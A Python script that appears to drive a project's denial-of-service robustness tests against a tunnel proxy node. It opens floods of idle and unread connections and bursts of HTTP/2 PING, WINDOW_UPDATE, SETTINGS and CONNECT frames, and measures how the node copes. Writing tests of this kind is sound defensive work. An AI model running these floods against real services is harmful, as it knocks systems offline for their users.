"""One attacker of scripts/attacks.sh, or one observer beside it. Prints one line of JSON at its end.

attacker.py idle ADDRESS PORT COUNT SECONDS       COUNT connections that never send a byte
attacker.py unread ADDRESS PORT COUNT SECONDS PATH
                                                  COUNT connections that ask for PATH and never read
attacker.py probe ADDRESS PORT SECONDS            plaintext to an echo server: how often it answers
attacker.py trip ADDRESS PORT SECONDS             round trips on one connection: p50, p99, failed
attacker.py streams ADDRESS TUNNELS STREAMS SECONDS IDENTITY AUTHORITY
                                                  authenticated tunnels full of stalled streams
attacker.py flood KIND ADDRESS SECONDS IDENTITY AUTHORITY
                                                  KIND ping, window, settings, refused or bytes:
                                                  frames without an end in tunnels of one caller;
                                                  none: what that costs the machine, and no frame

IDENTITY is a directory with tls.crt and tls.key. Every loop ends after SECONDS.
"""
import json, os, select, socket, ssl, struct, sys, time

BURST = 256
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field, neither indexed nor Huffman coded (RFC 7541 section 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def connect_request(stream, authority):
    fields = literal(b":method", b"CONNECT") + literal(b":authority", authority.encode())
    return frame(1, 4, stream, fields)


def client(identity):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.load_cert_chain(f"{identity}/tls.crt", f"{identity}/tls.key")
    context.set_alpn_protocols(["h2"])
    return context


def tunnel(address, identity):
    """A tunnel of the caller whose SVID lies in `identity`."""
    context = client(identity)
    raw = socket.create_connection((address, 15008), timeout=5)
    made = context.wrap_socket(raw)
    made.sendall(PREFACE + frame(4, 0, 0))
    return made


def open_many(address, port, count, first=b""):
    """As many connections as can be had, without waiting for any of them."""
    opened = []
    for _ in range(count):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.settimeout(2)
        try:
            s.connect((address, port))
            if first:
                s.sendall(first)
            s.setblocking(False)
            opened.append(s)
        except OSError:
            s.close()
    return opened


def closed(sockets):
    """How many the other end has closed, for those that have no bytes to read."""
    gone = 0
    for s in sockets:
        try:
            gone += s.recv(1, socket.MSG_PEEK) == b""
        except BlockingIOError:
            pass
        except OSError:
            gone += 1
    return gone


def idle(address, port, count, seconds):
    opened = open_many(address, port, count)
    time.sleep(seconds)
    return {"opened": len(opened), "closed": closed(opened)}


def unread(address, port, count, seconds, path):
    ask = f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * 64
    opened, sent = open_many(address, port, count), 0
    until = time.monotonic() + seconds
    gone = set()
    while time.monotonic() < until:
        for s in opened:
            if s in gone:
                continue
            try:
                sent += s.send(ask)
            except BlockingIOError:
                pass
            except OSError:
                gone.add(s)
        time.sleep(0.1)
    return {"opened": len(opened), "closed": len(gone), "asked_bytes": sent}


def probe(address, port, seconds):
    sent = answered = connected = 0
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        sent += 1
        s = socket.socket()
        s.settimeout(0.2)
        try:
            s.connect((address, port))
            connected += 1
            s.sendall(b"E" + b"plaintext" * 4)
            answered += bool(s.recv(64))
        except OSError:
            pass
        finally:
            s.close()
        time.sleep(0.002)
    return {"probes": sent, "connected": connected, "answered": answered}


def trip(address, port, seconds):
    s = socket.create_connection((address, port), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(b"E")
    took, failed = [], None
    until = time.monotonic() + seconds
    while time.monotonic() < until and failed is None:
        began, message, got = time.perf_counter(), os.urandom(64), b""
        try:
            s.sendall(message)
            while len(got) < 64:
                part = s.recv(64 - len(got))
                if not part:
                    raise OSError("closed")
                got += part
        except OSError as error:
            failed = str(error)
        took.append(time.perf_counter() - began)
        time.sleep(0.002)
    took.sort()
    at = lambda q: round(took[min(len(took) - 1, int(len(took) * q))] * 1e3, 3)
    return {"trips": len(took), "p50_ms": at(0.5), "p99_ms": at(0.99), "failed": failed}


def streams(address, tunnels, each, seconds, identity, authority):
    made, refused = [], 0
    for _ in range(tunnels):
        try:
            one = tunnel(address, identity)
            one.sendall(b"".join(connect_request(1 + 2 * n, authority) for n in range(each)))
            made.append(one)
        except OSError:
            refused += 1
    time.sleep(seconds)
    return {"tunnels": len(made), "refused": refused}


def flood(kind, address, seconds, identity, authority):
    os.nice(19)  # its processor would be another machine's: what is looked at is what the node does
    until = time.monotonic() + seconds
    made = sent = ended = 0
    while time.monotonic() < until:
        try:
            if kind == "none":  # as long as it is refused it does no more than that
                client(identity)
                raise OSError("nobody is called")
            one = tunnel(address, identity)
        except OSError:
            time.sleep(0.05)
            continue
        made, stream = made + 1, 1
        try:
            while time.monotonic() < until:
                if kind == "bytes":
                    # A byte for one stream, then one for the next: what a tunnel is for, if a small part of it.
                    if stream == 1:
                        one.sendall(b"".join(connect_request(1 + 2 * n, authority) for n in range(150)))
                        stream, burst = 3, b"".join(frame(0, 0, 1 + 2 * n, b"S") for n in range(150))
                elif kind == "refused":
                    burst = b"".join(connect_request(stream + 2 * n, authority) for n in range(BURST))
                    stream += 2 * BURST
                else:
                    what = {"ping": frame(6, 1, 0, b"12345678"), "window": frame(8, 0, 0, b"\0\0\0\1"),
                            "settings": frame(4, 1, 0)}[kind]
                    burst = what * BURST
                one.sendall(burst)
                sent += 150 if kind == "bytes" else BURST
                # What it answers is read, so that it can go on answering.
                while select.select([one], [], [], 0)[0] or one.pending():
                    if not one.recv(65536):
                        raise OSError("closed")
        except OSError:
            ended += 1
        one.close()
    return {"tunnels": made, "ended": ended, "frames": sent}


def main(kind, *rest):
    numbers = [int(r) if r.isdigit() else r for r in rest]
    does = {"idle": idle, "unread": unread, "probe": probe, "trip": trip, "streams": streams, "flood": flood}
    print(json.dumps(does[kind](*numbers)), flush=True)


if __name__ == "__main__":
    if len(sys.argv) < 3:
        sys.exit(__doc__)
    main(*sys.argv[1:])
